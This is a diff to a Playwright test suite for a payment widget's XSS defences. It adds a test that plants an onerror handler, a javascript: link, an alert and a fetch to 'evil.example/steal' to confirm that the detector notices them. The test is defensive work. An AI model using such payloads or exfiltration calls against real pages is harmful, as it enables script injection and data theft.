@@ -6,9 +6,9 @@
 // `onExternalRedirectEvent` for an app link). One page load, one press per payload.
 import { expect, test } from '@playwright/test';
 import { recordFigure } from './figures.ts';
-import { isBadUrl, NAMED_RESOURCES, URL_PAYLOADS } from './xss-corpus-data.ts';
+import { isBadUrl, LINK_SCHEMES, NAMED_RESOURCES, RESOURCE_SCHEMES, URL_PAYLOADS } from './xss-corpus-data.ts';
 import { hostilePlayer, MARK } from './xss-host.ts';
-import { sandboxHosts, watchForXss } from './xss-watch.ts';
+import { sandboxHosts, urlAttributesIn, watchForXss } from './xss-watch.ts';
 
 const PART = 'XSS corpus';
 const REJECTED = 'Rejected payment link';
@@ -48,7 +48,7 @@ test('XSS-05: every URL payload as a redirect source — each bad one is refused
     // The press ends in a refusal, a window the helper sends on, or an app link handed to the host.
     const reached = () => opened.slice(requestsBefore).some((u) => !hosts.includes(new URL(u).host));
     await expect
-      .poll(() => heard.length > before || reached(), { timeout: 15_000 })
+      .poll(() => heard.length > before || reached(), { timeout: 30_000 })
       .toBe(true)
       .catch(() => undefined);
     const rejected = heard.slice(before).some((h) => h.type === 'Error' && h.message === REJECTED);
@@ -68,4 +68,28 @@ test('XSS-05: every URL payload as a redirect source — each bad one is refused
   recordFigure({ part: PART, name: 'executions or bad navigations while opening sources', value: leaks.length, expected: '0', ok: leaks.length === 0 });
   expect(notRefused, 'bad sources that were not refused').toEqual([]);
   expect(leaks).toEqual([]);
+});
+
+test('XSS-04: the lookout is not blind — a handler, a javascript: link, a sentinel call and a foreign request put into the widget by hand are all seen', async ({ browser, baseURL }) => {
+  const context = await browser.newContext({ baseURL });
+  const events = await watchForXss(context, sandboxHosts(baseURL!), () => false);
+  const page = await context.newPage();
+  const player = await hostilePlayer(page, { payloads: [MARK], urls: ['https://ok.example/'] }, { country: 'RU', currency: 'RUB' });
+  await expect(player.widget.getByRole('heading', { name: 'Deposit method' })).toBeVisible({ timeout: 15_000 });
+  // What a sanitiser bypass would leave behind, planted straight into the shadow root (not through the widget).
+  await player.widget.evaluate((el) => {
+    const planted = document.createElement('div');
+    planted.innerHTML = '<img src="/nowhere.png" onerror="__xssHit(1)"><a href="javascript:__xssHit(2)">x</a><img src="data:image/png,x">';
+    el.shadowRoot!.append(planted);
+    (window as unknown as { __xssHit(n: string): void }).__xssHit('direct');
+    window.alert('alert');
+    void fetch('https://evil.example/steal').catch(() => undefined);
+  });
+  await expect.poll(() => events.scriptViolations.length, { message: 'the live handler is blocked by the CSP and seen' }).toBeGreaterThan(0);
+  await expect.poll(() => events.foreignRequests.length).toBe(1);
+  const dom = await urlAttributesIn(page);
+  await context.close();
+  expect(events.executions.map((e) => e.split(' ')[0])).toEqual(['direct', 'alert']);
+  expect(dom.handlers).toEqual(['img[onerror]']);
+  expect(dom.urls.filter((u) => !(u.link ? LINK_SCHEMES : RESOURCE_SCHEMES).includes(u.scheme)).map((u) => u.scheme)).toEqual(['javascript:', 'data:']);
 });
